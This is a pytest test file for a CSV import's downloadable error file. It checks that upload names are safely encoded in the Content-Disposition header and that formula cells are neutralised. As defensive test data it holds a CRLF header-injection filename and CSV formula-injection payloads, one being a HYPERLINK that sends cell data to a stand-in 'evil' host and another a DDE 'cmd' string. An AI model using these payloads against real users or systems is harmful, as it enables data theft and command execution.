"""The error file of an import: named safely whatever the upload was called, and neutralised."""

import csv
import io
from typing import Any

import httpx
import pytest

from tests.core.test_downloads import parse
from tests.imports.conftest import RunJobs


def _file(*bad: str) -> bytes:
    """A CSV with a good row and a row with an invalid e-mail holding `bad` in other cells."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\n")
    writer.writerows([["email", "first_name", "last_name", "notes"], ["ok@example.pl", "Ok"]])
    writer.writerow(["not-an-email", *bad])
    return out.getvalue().encode()


async def _errors_file(
    client: httpx.AsyncClient, run_jobs: RunJobs, name: str, data: bytes
) -> httpx.Response:
    # The name goes in the query: a multipart part would percent-encode the quote and CR/LF.
    r = await client.post(
        "/imports",
        content=data,
        params={"file_name": name},
        headers={"Content-Type": "text/csv"},
    )
    assert r.status_code == 201, r.text
    imp: dict[str, Any] = r.json()
    assert (await client.post(f"/imports/{imp['id']}/preview")).status_code == 202
    assert await run_jobs() == ["validated"]
    return await client.get(f"/imports/{imp['id']}/errors.csv")


class TestErrorFileName:
    @pytest.mark.parametrize(
        ("name", "fallback", "utf8"),
        [
            ("klienci-łódź.csv", "klienci-lodz-errors.csv", "klienci-łódź-errors.csv"),
            ("клієнти Київ.csv", "download-errors.csv", "клієнти Київ-errors.csv"),
            ('say "hi".csv', "say _hi_-errors.csv", 'say "hi"-errors.csv'),
            (
                "a\r\nSet-Cookie: x=1.csv",
                "a Set-Cookie_ x=1-errors.csv",
                "a Set-Cookie: x=1-errors.csv",
            ),
        ],
    )
    async def test_any_upload_name_gives_a_well_formed_attachment(
        self, client: httpx.AsyncClient, run_jobs: RunJobs, name: str, fallback: str, utf8: str
    ) -> None:
        r = await _errors_file(client, run_jobs, name, _file("x", "y", "z"))
        assert r.status_code == 200
        assert parse(r.headers["content-disposition"]) == ("attachment", fallback, utf8)
        assert "set-cookie" not in r.headers


class TestErrorFileCells:
    async def test_formulas_of_the_bad_row_come_out_neutralised(
        self, client: httpx.AsyncClient, run_jobs: RunJobs
    ) -> None:
        cells = ('=HYPERLINK("http://evil/?"&A1;"x")', "+cmd|' /C calc'!A0", "@SUM(1)")
        r = await _errors_file(client, run_jobs, "klienci.csv", _file(*cells))
        rows = list(csv.reader(io.StringIO(r.text.removeprefix("\ufeff")), delimiter=";"))
        assert rows[0] == ["email", "first_name", "last_name", "notes", "error"]
        assert rows[1][:4] == ["not-an-email", *("'" + c for c in cells)]
